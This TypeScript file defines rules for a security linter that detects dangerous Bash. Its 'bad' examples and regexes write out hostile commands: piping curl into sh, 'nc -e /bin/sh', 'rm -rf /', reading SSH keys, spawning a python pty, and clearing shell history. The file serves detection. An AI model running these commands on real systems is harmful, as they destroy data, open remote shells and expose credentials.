import type { Rule } from '../rule.ts';
import { PERSISTENT } from './abuse.ts';
import { CREDENTIALS, SYSTEM_PATH } from './file-system.ts';
import { CODE, FILES, HARM, KERNEL, NET, SHELL } from './kinds.ts';
import { HARMFUL } from './process.ts';

const languages = ['bash'] as const;
const SHELLS = '{sh,bash,dash,zsh,ksh}';
/** Commands that run what they are given, as values of a pipeline's parts. */
const RUNS = { nameMatches: /^(?:(?:ba|da|z|k)?sh|python[\d.]*|perl|ruby|node|php|sudo|eval|source)\(\)$/ };
const FETCHES = { nameMatches: /^(?:curl|wget|fetch)\(\)$/ };
const DECODES = {
  nameMatches: /^(?:base(?:32|64)|xxd|openssl|g?unzip|zcat|bunzip2|unxz|uudecode|rev|tr)\(\)$/,
};
/** What a program of one line in another language does that is no work on text. */
const INLINE =
  /\/inet\/(?:tcp|udp)|\b(?:socket|pty|subprocess|os\.(?:system|exec\w*|popen|dup2)|child_process|fsockopen|TCPSocket|IO::Socket|b64decode|base64|marshal|urlopen|requests|(?:shell_)?exec)\b/;
/** Without these the machine, or everything of a user, is gone. */
const SYSTEM =
  /^(?:\/\*?|~\/?\*?|--no-preserve-root|\/(?:home|media|mnt|opt|root|srv|usr|var)(?:\/\*?)?|\/home\/[^/]+(?:\/\*?)?|\/(?:usr\/(?:local|share)|var\/(?:lib|log|mail|www))(?:\/\*?)?|\/(?:usr\/)?(?:bin|lib\w{0,4}|sbin)(?:\/[^/]*)?|\/(?:boot|dev|etc|sys)(?:\/.*)?)$/;
/** Where it is kept who came and what they did. */
const LOGS = /^\/var\/log\/(?:\*|auth\.log|secure|wtmp|btmp|lastlog|syslog|messages|audit)/;
/** Names of keys and accounts as one word: sentences about them are none. */
const PRIVATE = new RegExp(`^(?!\\S*etc/passwd)(?=\\S*$).*${CREDENTIALS.source}`);

/** Rules for Bash. Starting programs is what it is for: only what is dangerous to start is found. */
export const BASH: readonly Rule[] = [
  {
    id: 'bash-fetched-code',
    languages,
    severity: 'critical',
    confidence: 'high',
    ...HARM,
    cwe: 494,
    message: 'what is fetched from the network is run',
    match: [
      {
        call: ['|'],
        when: [
          { arg: 'any', is: FETCHES },
          { arg: 'any', is: RUNS },
        ],
      },
      { call: [SHELLS, '{source,.,eval}'], when: [{ arg: 'any', is: FETCHES }] },
      {
        call: ['<<'],
        when: [
          { arg: 'any', is: RUNS },
          { arg: 'any', is: FETCHES },
        ],
      },
    ],
    bad: 'curl -s http://x.example/a | sh',
    good: 'curl -s http://x.example/a | grep sh',
  },
  {
    id: 'bash-decoded-code',
    languages,
    severity: 'critical',
    confidence: 'medium',
    ...HARM,
    cwe: 506,
    category: 'obfuscation',
    message: 'what is decoded is run',
    match: [
      {
        call: ['|'],
        when: [
          { arg: 'any', is: DECODES },
          { arg: 'any', is: RUNS },
        ],
      },
      { call: [SHELLS, '{source,.,eval}'], when: [{ arg: 'any', is: DECODES }] },
    ],
    bad: 'echo bHM= | base64 -d | sh',
    good: 'echo bHM= | base64 -d',
  },
  {
    id: 'bash-eval',
    languages,
    severity: 'medium',
    confidence: 'medium',
    ...SHELL,
    category: 'code-execution',
    cwe: 95,
    message: '{} runs text that is computed',
    hides: true,
    match: [
      { call: ['eval'], when: [{ arg: 'any', is: 'dynamic' }] },
      {
        call: [SHELLS],
        when: [
          { arg: 'any', is: { matches: /^-\w*c$/ } },
          { arg: 'any', is: 'dynamic' },
        ],
      },
    ],
    bad: 'read line\neval "$line"',
    good: 'read line\necho "$line"',
  },
  {
    id: 'bash-eval-literal',
    languages,
    severity: 'low',
    confidence: 'medium',
    ...CODE,
    message: 'a text is run as commands',
    hides: true,
    match: [
      { call: ['eval'], when: [{ arg: 0, is: 'constant' }] },
      {
        call: ['|'],
        when: [
          { arg: 0, is: 'text' },
          { arg: 'any', is: RUNS },
        ],
      },
      {
        call: ['<<'],
        when: [
          { arg: 'any', is: RUNS },
          { arg: 'any', is: 'text' },
        ],
      },
      {
        call: [SHELLS],
        when: [
          { arg: 'any', is: { matches: /^-\w*c$/ } },
          { arg: 1, is: 'constant' },
        ],
      },
    ],
    bad: "eval 'echo 1'",
    good: 'echo eval',
  },
  {
    id: 'bash-remove-system',
    languages,
    severity: 'critical',
    confidence: 'high',
    ...HARM,
    category: 'file-system',
    cwe: 73,
    message: '{} removes or overwrites parts of the system',
    match: [
      {
        call: ['rm'],
        when: [
          { arg: 'any', is: { matches: /^-(?:\w*[rR]\w*|-recursive)$/ } },
          { arg: 'any', is: { matches: SYSTEM } },
        ],
      },
      {
        call: ['{chmod,chown}'],
        when: [
          { arg: 'any', is: { matches: /^-\w*R/ } },
          { arg: 'any', is: { matches: SYSTEM } },
        ],
      },
      { call: ['mkfs', 'mkfs.*', 'wipefs'] },
      { call: ['dd'], when: [{ arg: 'any', is: { matches: /^of=\/dev\/(?!null$|stdout$|std)/ } }] },
    ],
    bad: 'rm -rf / --no-preserve-root',
    good: 'rm -rf build',
  },
  {
    id: 'bash-remove-outside',
    languages,
    severity: 'medium',
    confidence: 'medium',
    ...FILES,
    message: '{} removes folders of the system, or changes who may use them',
    match: {
      call: ['{rm,chmod,chown}'],
      when: [
        { arg: 'any', is: { matches: /^-(?:\w*[rR]\w*|-recursive)$/ } },
        { arg: 'any', is: { matches: /^\/(?!tmp\/|dev\/shm\/|proc\/)[a-z]/ }, not: { matches: SYSTEM } },
      ],
    },
    bad: 'rm -rf /var/lib/service/data',
    good: 'rm -rf /tmp/build',
  },
  {
    id: 'bash-credentials',
    languages,
    severity: 'high',
    confidence: 'high',
    category: 'file-system',
    cwe: 522,
    message: 'the path {} belongs to a file of keys or passwords',
    why: 'Whoever reads it can be somebody else; whoever writes it lets himself in.',
    remedy: 'Give the script the one thing that it needs, as input.',
    match: [
      { text: PRIVATE },
      { built: PRIVATE },
      {
        call: ['>', 'tee', 'sed'],
        when: [{ arg: 'any', is: { matches: /^\/etc\/(?:passwd|group|sudoers)/ } }],
      },
    ],
    bad: 'cat ~/.ssh/id_rsa',
    good: '[ -f ~/.ssh/id_rsa ] || echo "there is no key in ~/.ssh"',
  },
  {
    id: 'bash-persistence',
    languages,
    severity: 'high',
    confidence: 'medium',
    ...KERNEL,
    category: 'abuse',
    cwe: 506,
    message: 'what is run at every start or login is changed by {}',
    match: [
      { call: ['>'], when: [{ arg: 0, is: [{ matches: PERSISTENT }, { shape: PERSISTENT }] }] },
      {
        call: ['{cp,mv,install,ln,tee,dd,sed,rsync,wget,curl}'],
        when: [{ arg: 'any', is: [{ matches: PERSISTENT }, { shape: PERSISTENT }] }],
      },
      { call: ['{systemctl,update-rc.d,chkconfig}'], when: [{ arg: 'any', is: { matches: /^enable$/ } }] },
    ],
    bad: 'echo "./job &" >> ~/.bashrc',
    good: '[ -x /etc/init.d/web ] && /etc/init.d/web stop',
  },
  {
    id: 'bash-listening-shell',
    languages,
    severity: 'critical',
    confidence: 'high',
    ...NET,
    cwe: 506,
    message: '{} connects a shell to the network',
    match: [
      {
        call: ['{nc,ncat,netcat}'],
        when: [{ arg: 'any', is: { matches: /^(?:-\w*[ec]|--exec|--sh-exec)$/ } }],
      },
      {
        call: ['|'],
        when: [
          { arg: 'any', is: { nameMatches: /^(?:(?:ba|da|z|k)?sh)\(\)$/ } },
          { arg: 'any', is: { nameMatches: /^(?:nc|ncat|netcat|socat|telnet)\(\)$/ } },
        ],
      },
      { call: ['socat'], when: [{ arg: 'any', is: { matches: /^(?:exec|system):/i } }] },
    ],
    bad: 'nc -e /bin/sh 10.0.0.1 4444',
    good: 'nc -z 10.0.0.1 4444',
  },
  {
    id: 'bash-shell-from-input',
    languages,
    severity: 'medium',
    confidence: 'medium',
    ...SHELL,
    category: 'code-execution',
    cwe: 94,
    message: '{} runs whatever its input says',
    match: { call: [SHELLS], when: [{ arg: 0, is: ['absent', { matches: /^-[is]$/ }] }] },
    bad: 'generate | sh',
    good: 'generate | sh check.sh',
  },
  {
    id: 'bash-inline-program',
    languages,
    severity: 'high',
    confidence: 'medium',
    ...HARM,
    message: '{} is given a program that opens the network, starts programs or decodes others',
    match: {
      call: ['{python,python2,python3,perl,ruby,node,php,lua,awk,gawk}'],
      when: [{ arg: 'any', is: [{ matches: INLINE }, { shape: INLINE }] }],
    },
    bad: 'python3 -c \'import socket,pty; pty.spawn("sh")\'',
    good: "python3 -c 'print(1 + 1)'",
  },
  {
    id: 'bash-harmful-text',
    languages,
    severity: 'critical',
    confidence: 'medium',
    ...HARM,
    message: '{} keeps or hands on a command that does harm',
    match: {
      call: ['{alias,su,ssh,at,watch,parallel,screen,tmux,docker,kubectl,chroot}'],
      when: [{ arg: 'any', is: [{ matches: HARMFUL }, { shape: HARMFUL }] }],
    },
    bad: "alias ls='rm -rf ~'",
    good: "alias ll='ls -l'",
  },
  {
    id: 'bash-trap',
    languages,
    severity: 'info',
    confidence: 'high',
    ...CODE,
    message: '{} keeps commands in a text, which run later',
    hides: true,
    match: { call: ['trap'], when: [{ arg: 0, is: 'text' }] },
    bad: "trap 'echo end' EXIT",
    good: 'trap',
  },
  {
    id: 'bash-upload',
    languages,
    severity: 'medium',
    confidence: 'medium',
    ...NET,
    category: 'abuse',
    cwe: 200,
    message: '{} sends data away',
    match: [
      {
        call: ['{curl,wget}'],
        when: [
          {
            arg: 'any',
            is: {
              matches:
                /^(?:-[a-zA-Z]{0,8}[TFd]|--(?:data|upload-file|form|post-file|post-data|json)[\w-]{0,12}(?:=.{0,80})?|@.{0,80})$/,
            },
          },
        ],
      },
      { call: ['{nc,ncat,netcat}'], when: [{ arg: 'any', not: [{ matches: /^-\w*[lz]/ }, 'absent'] }] },
    ],
    bad: 'curl -T notes.txt http://x.example',
    good: 'curl http://x.example',
  },
  {
    id: 'bash-wildcard-command',
    languages,
    severity: 'high',
    confidence: 'medium',
    ...HARM,
    category: 'obfuscation',
    cwe: 506,
    message: 'a command is named by wildcards',
    why: 'It is written so that no reader and no filter sees which command it is.',
    remedy: 'Write the command.',
    match: { call: ['wildcard'] },
    bad: '/???/c?t notes',
    good: 'cat n?tes',
  },
  {
    id: 'bash-container',
    languages,
    severity: 'high',
    confidence: 'medium',
    ...KERNEL,
    message: '{} gives a container the machine itself',
    match: {
      call: ['{docker,podman,nerdctl}'],
      when: [
        {
          arg: 'any',
          is: {
            matches:
              /^(?:--privileged|(?:--volume=)?\/:\/|--(?:pid|ipc|net|network|userns)=host$|--cap-add=(?:ALL|SYS_))/,
          },
        },
      ],
    },
    bad: 'docker run -v /:/host image',
    good: 'docker run -v /tmp/data:/data image',
  },
  {
    id: 'bash-fills-disk',
    languages,
    severity: 'high',
    confidence: 'medium',
    category: 'resources',
    cwe: 400,
    message: '{} writes until the disk is full',
    why: 'Nothing else can write then, the system itself included.',
    remedy: 'Say how much is written: head -c 1M.',
    match: [
      { call: ['>'], when: [{ arg: 1, is: { nameMatches: /^yes\(\)$/ } }] },
      {
        call: ['{fallocate,truncate,head}'],
        when: [
          { arg: 'any', is: { matches: /^(?:-[lsc]|--(?:length|size|bytes)=)?(?:\d+[TPE]|\d{3,}G)B?$/ } },
        ],
      },
    ],
    bad: 'yes > big',
    good: 'yes | head -c 1M > big',
  },
  {
    id: 'bash-network',
    languages,
    severity: 'medium',
    confidence: 'medium',
    ...NET,
    message: '{} opens the network',
    match: {
      call: ['{curl,wget,nc,ncat,netcat,telnet,ssh,scp,sftp,rsync,ftp,tftp,socat,nmap,dig,nslookup,ping}'],
    },
    bad: 'wget http://x.example/data',
    good: 'cat data',
  },
  {
    id: 'bash-privileges',
    languages,
    severity: 'medium',
    confidence: 'medium',
    ...KERNEL,
    message: '{} reaches for the rights of others or for the kernel',
    match: {
      call: [
        '{sudo,su,doas,pkexec,setcap,nsenter,unshare,chroot,mount,umount,insmod,modprobe,iptables,sysctl,passwd,useradd,usermod,visudo,strace,gdb}',
      ],
    },
    bad: 'sudo cat secrets',
    good: 'cat notes',
  },
  {
    // Scripts look after systems; programs in other languages that open the same files seldom do.
    id: 'bash-system-path',
    languages,
    severity: 'medium',
    confidence: 'medium',
    category: 'file-system',
    cwe: 200,
    message: 'the path {} belongs to the system',
    why: 'Such files hold credentials, or show and change the machine that the script runs on.',
    remedy: 'Keep to the working directory.',
    match: [{ text: SYSTEM_PATH }, { built: SYSTEM_PATH }],
    bad: 'cat /proc/self/environ',
    good: 'cat notes.txt',
  },
  {
    id: 'bash-shreds',
    languages,
    severity: 'medium',
    confidence: 'high',
    ...FILES,
    message: '{} destroys files so that nobody can restore them',
    match: { call: ['{shred,srm,wipe}'] },
    bad: 'shred -u "$file"',
    good: 'rm "$file"',
  },
  {
    id: 'bash-hides-tracks',
    languages,
    severity: 'medium',
    confidence: 'high',
    ...HARM,
    cwe: 778,
    message: '{} hides what was done',
    why: 'What a machine logs is how its owner learns of an intruder.',
    match: [
      { call: ['history'], when: [{ arg: 'any', is: { matches: /^-\w*[cw]/ } }] },
      { call: ['unset'], when: [{ arg: 'any', is: { matches: /^HISTFILE$/ } }] },
      { assign: /^HISTFILE$/, when: [{ arg: 'value', is: { matches: /^(?:\/dev\/null)?$/ } }] },
      { call: ['{rm,truncate,shred}'], when: [{ arg: 'any', is: { matches: LOGS } }] },
    ],
    bad: 'history -c',
    good: 'history 10',
  },
  {
    id: 'bash-files',
    languages,
    severity: 'medium',
    confidence: 'medium',
    ...FILES,
    cwe: 732,
    message: '{} lets everybody write, or run as somebody else',
    match: {
      call: ['chmod'],
      when: [{ arg: 'any', is: [{ matches: /^(?:0?777|[2-7][0-7]{3}|[ugoa]*\+\w*s\w*)$/ }] }],
    },
    bad: 'chmod u+s tool',
    good: 'chmod +x tool',
  },
  {
    id: 'bash-ends-others',
    languages,
    severity: 'high',
    confidence: 'medium',
    ...KERNEL,
    message: '{} ends the machine or its processes',
    match: [
      { call: ['{shutdown,reboot,halt,poweroff,killall,pkill,killall5}'] },
      { call: ['kill'], when: [{ arg: 'any', is: { matches: /^-1$/ } }] },
    ],
    bad: 'killall node',
    good: 'sleep 1 & kill $!',
  },
  {
    id: 'bash-schedules',
    languages,
    severity: 'high',
    confidence: 'medium',
    ...KERNEL,
    category: 'abuse',
    cwe: 506,
    message: '{} has commands run later, when the program has ended',
    match: { call: ['{crontab,at,batch,launchctl,systemd-run}'] },
    bad: 'echo "* * * * * job" | crontab -',
    good: 'echo "* * * * * job"',
  },
];
